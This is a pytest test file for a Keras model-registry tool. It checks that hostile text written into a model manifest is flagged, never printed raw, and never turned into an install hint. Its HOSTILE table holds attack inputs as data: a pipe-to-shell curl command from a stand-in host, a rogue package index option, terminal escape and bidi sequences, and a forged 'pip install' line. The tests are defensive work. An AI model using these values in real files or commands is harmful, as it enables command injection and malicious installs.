"""A manifest holds something else in place of a name: nothing of it runs, shows or is suggested."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from keras_registry.cli import main
from tests.scenarios.archives import alter
from tests.scenarios.observing import observe

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import SavedModel
    from tests.support.processes import ForkServer

HOSTILE = {
    "shell line": "evil; curl http://evil.example | sh",
    "option": "--index-url=http://evil.example/simple",
    "url": "evil @ https://evil.example/evil.whl",
    "escapes": "\x1b[2J\x1b[31mevil\x1b]0;evil\x07",
    "c1 escapes": "\x9b31mevil\x9d0;evil\x9c",
    "bidi": "\u202eevil\u202c\u2066evil\u2069",
    "lines": 'evil\n       hint       pip install "evil"\r\n',
    "markup": "[link=http://evil.example]evil[/link]",
    "invisible": "evil\u200b\u2060\ufeff",
    "null": "evil\x00evil",
    "lone surrogate": "evil\ud800",
    "long": "evil " * 20_000,
}
"""Texts that do harm on a screen, in a shell, or in front of a person who copies a line."""


def set_member(*path: str | int) -> Callable[[dict[str, Any], str], None]:
    """Return a function that puts a text into a place of a document."""

    def change(document: dict[str, Any], text: str) -> None:
        node: Any = document
        for step in path[:-1]:
            node = node[step]
        node[path[-1]] = text

    return change


def rename(document: dict[str, Any], text: str) -> None:
    """Put a text in place of the name of the one distribution, wherever that stands."""
    document["distributions"] = {text: document["distributions"]["acme-layers"]}
    for record in document["objects"]:
        record["distribution"] = text


NAMES: dict[str, Callable[[dict[str, Any], str], None]] = {
    "a distribution": rename,
    "a distribution, in the table alone": lambda document, text: document["distributions"].update(
        {text: {"version": "1.0"}}
    ),
    "an object's distribution": set_member("objects", 0, "distribution"),
    "a version": set_member("distributions", "acme-layers", "version"),
    "a range": set_member("distributions", "acme-layers", "requires"),
    "a key": set_member("objects", 0, "key"),
    "the Keras version": set_member("environment", "keras"),
    "the Python version": set_member("environment", "python"),
    "the backend's version": set_member("environment", "backend_version"),
}
"""Places where a name stands that is looked up, or shown in a command."""

WORDS: dict[str, Callable[[dict[str, Any], str], None]] = {
    "a class name": set_member("objects", 0, "class_name"),
    "a module": set_member("objects", 0, "module"),
    "a kind": set_member("objects", 0, "kind"),
    "a schema": set_member("objects", 0, "schema"),
    "a path": lambda document, text: document["objects"][0].update({"paths": [text]}),
    "a digest": set_member("distributions", "acme-layers", "digest"),
    "the backend": set_member("environment", "backend"),
    "the generator": set_member("generator"),
    "the manifest's version": set_member("manifest_version"),
    "a fingerprint": set_member("weights", "layers", "fingerprint"),
    "the config's hash": set_member("config"),
}
"""Places where other words stand."""

ANYWHERE: dict[str, Callable[[dict[str, Any], str], None]] = {
    "a part of the weights": lambda document, text: document["weights"].update({text: None}),
    "an unknown member": lambda document, text: document.update({text: text}),
}
"""Places where any text may stand."""


def check_screen(text: str) -> None:
    """Check that a text shows nothing raw, and that no line to act on was made from the file.

    Raises:
        AssertionError: It does, or one was.
    """
    raw = {character for character in text if not (character.isprintable() or character == "\n")}
    assert not raw, ascii(raw)
    acts = [
        line for line in text.splitlines() if line.lstrip().startswith(("hint", "pip", "R", "M"))
    ]
    assert not [line for line in acts if "evil" in line]
    assert max(map(len, text.splitlines()), default=0) < 2000


def hostile_files(
    source: Path, folder: Path, change: Callable[[dict[str, Any], str], None]
) -> list[Path]:
    """Write a model file for each hostile text, put into one place of its manifest."""
    files = []
    for number, text in enumerate(HOSTILE.values()):

        def edit(document: dict[str, Any], text: str = text) -> None:
            change(document, text)

        files.append(alter(source, folder / f"{number}.keras", manifest=edit))
    return files


SHOW = """\
import json
import sys
import traceback
import warnings

import keras

import keras_registry

codes = []
for file in sys.argv[1:]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        try:
            model = keras.saving.load_model(file)
        except Exception as error:
            findings = error.findings
            print("\\n".join(traceback.format_exception_only(error)))
        else:
            findings = keras_registry.report(model).findings
            print(keras_registry.report(model))
    for warning in caught:
        print(warning.message)
    codes.append([item.code for item in findings])
print("CODES")
print(json.dumps(codes))
"""


@pytest.mark.parametrize("place", [*NAMES, *WORDS, *ANYWHERE])
def test_hostile_manifest_is_an_m_finding_and_nothing_else(
    place: str,
    *,
    acme_site: Path,
    acme_model: SavedModel,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Whatever stands in place of a name: an M finding, no hint from it, nothing raw on screen."""
    monkeypatch.syspath_prepend(acme_site)
    change = {**NAMES, **WORDS, **ANYWHERE}[place]

    for file in hostile_files(acme_model.path, tmp_path, change):
        assert main(["verify", str(file)]) == 0
        assert main(["inspect", str(file)]) in {0, 1}
        screen = capsys.readouterr()
        check_screen(screen.out)
        assert screen.err == ""
        assert main(["verify", "--json", str(file)]) == 0
        printed = capsys.readouterr().out
        assert printed.isascii()
        codes = [item["code"] for item in json.loads(printed)["findings"]]
        assert codes == (["M105"] if place in NAMES else ["M102"] if place in WORDS else [])


@pytest.mark.parametrize("installed", [True, False], ids=["installed", "missing"])
@pytest.mark.parametrize("place", ["a distribution", "a version", "a key", "a class name"])
def test_load_shows_nothing_raw(
    place: str,
    *,
    installed: bool,
    acme_site: Path,
    acme_model: SavedModel,
    fork_server: ForkServer,
    tmp_path: Path,
) -> None:
    """The messages of a load, with the plugin or without, give a hostile text no way to act."""
    files = hostile_files(acme_model.path, tmp_path, {**NAMES, **WORDS}[place])

    done = fork_server.run(SHOW, argv=files, path=[acme_site] if installed else []).check()

    screen, _, codes = done.stdout.rpartition("CODES\n")
    check_screen(screen)
    check_screen(done.messages)
    assert len(json.loads(codes)) == len(HOSTILE)
    for found in json.loads(codes):
        assert ("M105" if place in NAMES else "M102") in found
        assert "R101" not in found  # nothing that a manifest says is believed
        assert ("R106" in found) is not installed


@pytest.mark.parametrize("requires", ["==6.6.6", ">=0", "<1,!=1.4.2"])
def test_range_of_the_manifest_is_never_believed(
    requires: str, acme_model: SavedModel, fork_server: ForkServer, tmp_path: Path
) -> None:
    """The range that a hint tells to install is computed, not read from the file."""

    def change(manifest: dict[str, Any]) -> None:
        manifest["distributions"]["acme-layers"]["requires"] = requires

    file = alter(acme_model.path, tmp_path / "model.keras", manifest=change)

    failed = observe(fork_server.run, file)

    assert 'pip install "acme-layers>=1.4,<2"' in failed.text
    assert requires not in failed.text.replace(">=1.4,<2", "")
